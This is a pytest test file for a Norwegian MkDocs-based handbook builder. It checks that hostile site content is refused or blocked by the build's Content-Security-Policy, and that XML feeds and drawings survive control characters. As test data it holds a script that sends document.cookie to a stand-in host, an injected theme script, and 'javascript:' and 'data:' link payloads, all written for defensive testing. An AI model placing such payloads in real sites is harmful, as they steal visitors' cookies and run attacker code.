"""Hostile content against the site's second walls: the build's Content-Security-Policy lets only the theme's and
handbok's own scripts run, and the feeds and drawings stay well-formed XML whatever the texts hold."""

from __future__ import annotations

import io
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import pytest

from conftest import TODAY, copy_base, make_site_repo, pages_for
from handbok.cli.main import main

WORD_LINE_BREAK = "\\v"  # Word's manual line break (Shift+Enter), U+000B, as a YAML escape


def test_feeds_and_drawings_stay_valid_xml_with_control_characters(tmp_path: Path) -> None:
    root = copy_base(tmp_path)
    routine = root / "rutiner" / "avviksmelding.md"
    text = routine.read_text(encoding="utf-8").replace("tittel: Avviksmelding", f'tittel: "Avviks{WORD_LINE_BREAK}melding"')
    text = text.replace('endring: "Nytt avvikssystem"', f'endring: "Nytt{WORD_LINE_BREAK}avvikssystem\\x01\\x1b"')
    routine.write_text(text, encoding="utf-8")
    pages = pages_for(root)
    xml = {rel: str(text) for rel, text in pages.items() if rel.endswith((".xml", ".svg"))}
    assert any(rel.endswith(".xml") for rel in xml) and any(rel.endswith(".svg") for rel in xml)
    assert any("Avviks melding" in text for text in xml.values())
    for rel, text in xml.items():
        ElementTree.fromstring(text.encode("utf-8"))  # raises on a character XML does not allow


def bygg(root: Path) -> tuple[int, str]:
    out = io.StringIO()
    code = main(["--rot", str(root), "bygg", "--dato", TODAY.isoformat()], out, out)
    return code, out.getvalue()


def test_a_script_in_mkdocs_yml_refuses_the_build(tmp_path: Path) -> None:
    root = make_site_repo(tmp_path / "h")
    config = root / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace(
        "copyright: Godkjent av implementeringsteamet. Nettstedet henter ingenting fra andre nettsteder.",
        "copyright: 'Godkjent <script>fetch(\"https://x.example/\"+document.cookie)</script>'"), encoding="utf-8")
    code, out = bygg(root)
    assert code == 1 and "mkdocs.yml:" in out and "usikkert-innhold" in out and "skript" in out
    assert not (root / "site").exists()


def test_an_unreadable_mkdocs_yml_is_one_line_not_a_traceback(tmp_path: Path) -> None:
    root = make_site_repo(tmp_path / "h")
    (root / "mkdocs.yml").write_text("site_name: 'Rutiner' x\n", encoding="utf-8")
    code, out = bygg(root)
    assert code == 2 and "mkdocs.yml kan ikke brukes" in out and "Traceback" not in out


def test_a_script_a_theme_customisation_injects_is_blocked_and_refuses_the_build(tmp_path: Path) -> None:
    """A theme override is HTML no check reads: the policy is the wall, and the build says so."""
    root = make_site_repo(tmp_path / "h")
    (root / "overrides").mkdir()
    (root / "overrides" / "main.html").write_text(
        '{% extends "base.html" %}\n{% block scripts %}{{ super() }}<script>window.__pwned = 1</script>{% endblock %}\n',
        encoding="utf-8")
    config = root / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("  name: material\n",
                                                                  "  name: material\n  custom_dir: overrides\n"),
                      encoding="utf-8")
    code, out = bygg(root)
    assert code == 2 and "har et skript som verken temaet eller handbok har laget" in out
    page = (root / "site" / "index.html").read_text(encoding="utf-8")
    assert "window.__pwned = 1" in page  # it reached the page: only the policy stands in its way
    policy = page.split('http-equiv="Content-Security-Policy" content="', 1)[1].split('"', 1)[0]
    assert policy.count("'sha256-") == 2  # the theme's two scripts, not the injected one


@pytest.mark.parametrize("scheme", ["javascript", "JaVaScRiPt", "data"])
def test_a_link_that_runs_code_in_mkdocs_yml_is_refused(tmp_path: Path, scheme: str) -> None:
    root = make_site_repo(tmp_path / "h")
    config = root / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace(
        "extra:\n", f"extra:\n  homepage: \"{scheme}:alert(document.domain)\"\n"), encoding="utf-8")
    out = io.StringIO()
    assert main(["--rot", str(root), "sjekk", "--dato", TODAY.isoformat()], out, io.StringIO()) == 1
    assert "mkdocs.yml:" in out.getvalue() and "extra.homepage" in out.getvalue()
